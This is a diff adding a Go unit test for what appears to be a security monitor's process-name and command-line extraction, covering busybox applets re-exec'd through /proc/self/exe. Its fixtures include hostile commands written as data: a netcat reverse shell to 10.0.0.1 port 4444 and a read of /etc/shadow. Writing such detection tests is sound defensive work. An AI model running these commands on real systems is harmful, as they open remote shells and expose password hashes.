@@ -140,3 +140,34 @@ func TestRenderFlags(t *testing.T) {
 		t.Error("errno")
 	}
 }
+
+// TestProcNameOfReexec: a program exec'd through /proc/self/exe (busybox's
+// shell runs its applets so) has the comm "exe"; proc.name is its argv[0].
+func TestProcNameOfReexec(t *testing.T) {
+	tests := []struct {
+		name, comm, exe string
+		argv            []string
+		want, cmdline   string
+	}{
+		{"busybox applet", "exe", "/bin/busybox", []string{"nc", "10.0.0.1", "4444", "-e", "/bin/sh"}, "nc", "nc 10.0.0.1 4444 -e /bin/sh"},
+		{"applet by path", "exe", "/bin/busybox", []string{"/usr/bin/wget", "-q"}, "wget", "wget -q"},
+		{"long argv0 cut like comm", "exe", "/bin/busybox", []string{"a-very-long-applet-name"}, "a-very-long-app", "a-very-long-app"},
+		{"a binary named exe", "exe", "/opt/app/exe", []string{"server"}, "exe", "exe"},
+		{"ordinary exec", "cat", "/usr/bin/cat", []string{"cat", "/etc/shadow"}, "cat", "cat /etc/shadow"},
+		{"argv rewritten", "sshd", "/usr/sbin/sshd", []string{"sshd: root@pts/0"}, "sshd", "sshd"},
+		{"no exe path known", "exe", "", []string{"nc"}, "exe", "exe"},
+	}
+	name, _ := Lookup("proc.name")
+	cmd, _ := Lookup("proc.cmdline")
+	for _, tt := range tests {
+		ev := &event.Event{Type: event.TypeExecve}
+		ev.Proc.Comm, ev.Proc.ExePath, ev.Proc.Argv = tt.comm, tt.exe, tt.argv
+		var c Ctx
+		if v, _ := name.Extract(&c, ev, nil); v.Str != tt.want {
+			t.Errorf("%s: proc.name %q, want %q", tt.name, v.Str, tt.want)
+		}
+		if v, _ := cmd.Extract(&c, ev, nil); v.Str != tt.cmdline {
+			t.Errorf("%s: proc.cmdline %q, want %q", tt.name, v.Str, tt.cmdline)
+		}
+	}
+}
